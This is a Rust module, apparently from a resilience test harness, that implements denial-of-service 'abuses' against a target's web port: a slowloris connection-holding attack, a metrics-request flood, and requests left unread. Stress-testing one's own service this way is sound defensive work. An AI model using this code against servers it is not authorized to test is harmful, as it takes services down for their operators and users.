//! Abuses of the web port, where metrics and health are.

#![expect(
    clippy::unnecessary_wraps,
    reason = "all abuses have one signature; some have nothing that can fail"
)]

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::attacker::{Attacker, is_later, reset};

/// Connections that are held at once: more than the web port serves at once, and
/// not so many that each is forgotten.
const HELD: usize = 64;

/// A request that arrives a byte at a time and never ends.
const ENDLESS: &[u8] = b"GET /healthz HTTP/1.1\r\nX-Padding: ";

/// Requests that never end, a few dozen at once.
pub(super) fn slowloris(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.web;
    let mut held: Vec<TcpStream> = Vec::new();
    while attacker.goes_on() {
        held.retain_mut(|stream| {
            let sent = stream.write(b"x");
            attacker.sent(*sent.as_ref().unwrap_or(&0));
            sent.is_ok() && !is_closed(stream)
        });
        while held.len() < HELD && attacker.goes_on() {
            let Some(mut stream) = attacker.connect(0, to) else {
                break;
            };
            if stream.set_nonblocking(true).is_ok() {
                attacker.sent(stream.write(ENDLESS).unwrap_or(0));
                held.push(stream);
            }
        }
        attacker.hold(Duration::from_millis(50), || {});
    }
    Ok(())
}

/// Questions for the metrics, one after the other.
pub(super) fn questions(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.web;
    while attacker.goes_on() {
        let Some(mut stream) = attacker.connect(0, to) else {
            continue;
        };
        attacker.send_all(&mut stream, b"GET /metrics HTTP/1.0\r\n\r\n");
        let mut answer = Vec::new();
        let asked = stream
            .set_read_timeout(Some(Duration::from_secs(1)))
            .and_then(|()| stream.read_to_end(&mut answer));
        match asked {
            Ok(bytes @ 1..) => attacker.received(bytes),
            _ => attacker.refused(),
        }
    }
    Ok(())
}

/// Questions whose answers nobody reads.
pub(super) fn unread_answers(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.web;
    let mut held = std::collections::VecDeque::new();
    while attacker.goes_on() {
        if let Some(mut stream) = attacker.connect(0, to) {
            attacker.send_all(&mut stream, b"GET /metrics HTTP/1.1\r\n\r\n");
            held.push_back(stream);
        }
        if held.len() > HELD
            && let Some(oldest) = held.pop_front()
        {
            reset(oldest);
        }
    }
    Ok(())
}

/// Whether the other side has closed a connection that does not wait.
fn is_closed(stream: &mut TcpStream) -> bool {
    match stream.read(&mut [0; 256]) {
        Ok(bytes) => bytes == 0,
        Err(error) => !is_later(&error),
    }
}
